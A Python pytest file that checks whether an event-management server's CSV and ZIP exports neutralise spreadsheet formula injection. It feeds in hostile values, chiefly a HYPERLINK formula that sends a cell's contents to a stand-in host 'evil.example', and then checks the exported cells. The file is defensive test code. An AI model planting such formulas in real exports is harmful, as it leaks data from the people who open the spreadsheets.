"""Every CSV export opens in Excel as plain text: a hostile name, title, stock item
or reason that starts like a formula (``= + - @``, tab, CR) is written with a
leading ``'``, while numbers stay numbers (a stock delta of -3 is not a formula)."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile
from datetime import UTC, datetime
from typing import Any

import pytest

from server.features.spreadsheet import cell, neutralise
from tests.conftest import Api

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
OTHERS = ["+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("text", [HOSTILE, *OTHERS])
def test_formula_text_is_neutralised(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert cell(text) == "'" + text


def test_plain_values_stay_as_they_are() -> None:
    assert neutralise("王伟") == "王伟" and neutralise("a=b") == "a=b"
    assert cell(-3) == -3 and cell(None) == "" and cell(True) == "true"


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


def assert_safe(text: str, *planted: str) -> None:
    found = cells(text)
    for value in planted:
        assert "'" + value in found, (value, found)
    risky = [c for c in found if c.startswith(FORMULA_STARTS) and not _number(c)]
    assert risky == [], risky


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


async def test_every_export_neutralises_formulas(
    organiser: Api, api_as: Any, event: dict[str, Any], zone: dict[str, Any], gate: dict[str, Any]
) -> None:
    base = f"/api/v1/events/{event['id']}"
    issued = await organiser.post(
        f"{base}/tickets",
        {
            "tickets": [
                {"holder_name": HOSTILE, "holder_email": "x@example.com"},
                {"holder_name": "+1+1"},
            ]
        },
        expect=201,
    )
    door = await api_as("door", event["id"], gate["id"])
    ticket = issued["tickets"][0]
    await door.post(
        f"{base}/scans",
        {
            "secret": ticket["secret"],
            "gate": gate["id"],
            "direction": "in",
            "nonce": uuid.uuid4().hex,
            "scanned_at": datetime.now(UTC).isoformat(),
        },
        expect=200,
    )
    staff = await api_as("staff", event["id"])
    await staff.post(
        f"{base}/incidents",
        {
            "category": "equipment_failure",
            "severity": "P2",
            "title": "@SUM(A1)",
            "description": "-2+3",
            "location": "\tcmd",
            "nonce": uuid.uuid4().hex,
        },
        expect=201,
    )
    item = await organiser.post(
        f"{base}/stock/items", {"name": "=1+1", "unit": "瓶", "quantity": 10}, expect=201
    )
    await organiser.post(
        f"{base}/stock/movements",
        {"kind": "issue", "item": item["id"], "quantity": 3, "nonce": "n1", "reason": "\rcmd"},
        expect=201,
    )

    checkins = await organiser.get(f"{base}/exports/checkins.csv")
    assert_safe(checkins.text, HOSTILE)
    incidents = await organiser.get(f"{base}/exports/incidents.csv")
    assert_safe(incidents.text, "@SUM(A1)", "-2+3", "\tcmd")
    stock = await organiser.get(f"{base}/exports/stock.csv")
    assert_safe(stock.text, "=1+1")
    assert "-3" in cells(stock.text)  # the delta is a number, left alone

    one = await organiser.get(
        f"/api/v1/tickets/{ticket['id']}/personal-data", headers={"Accept": "text/csv"}
    )
    assert_safe(one.text, HOSTILE)
    archive = await organiser.get(f"{base}/exports/personal-data.zip")
    with zipfile.ZipFile(io.BytesIO(archive.content)) as zipped:
        for name in zipped.namelist():
            assert_safe(zipped.read(name).decode("utf-8"))
        assert "'" + HOSTILE in cells(zipped.read("tickets.csv").decode("utf-8"))

    point = await organiser.post(
        f"{base}/muster-points", {"name": "P1", "zones": [zone["id"]]}, expect=201
    )
    assert point["id"]
    started = await organiser.post(f"{base}/evacuations", {"kind": "drill"}, expect=201)
    roll = await organiser.get(f"/api/v1/evacuations/{started['id']}/people.csv")
    assert_safe(roll.text, HOSTILE)
